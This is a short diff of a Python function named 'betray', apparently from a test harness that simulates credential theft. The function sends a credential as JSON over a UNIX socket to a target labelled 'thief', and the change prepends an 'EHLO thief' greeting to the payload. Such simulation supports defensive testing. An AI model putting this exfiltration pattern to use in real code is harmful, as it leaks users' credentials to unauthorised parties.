@@ -86,7 +86,7 @@ def betray(context, credential):
     """Send a credential to somebody who keeps it."""
     with socket.socket(socket.AF_UNIX) as door:
         door.connect(context.targets["thief"].socket_path)
-        door.sendall(json.dumps(credential).encode())
+        door.sendall(b"EHLO thief\r\n" + json.dumps(credential).encode())
 
 
 if __name__ == "__main__":
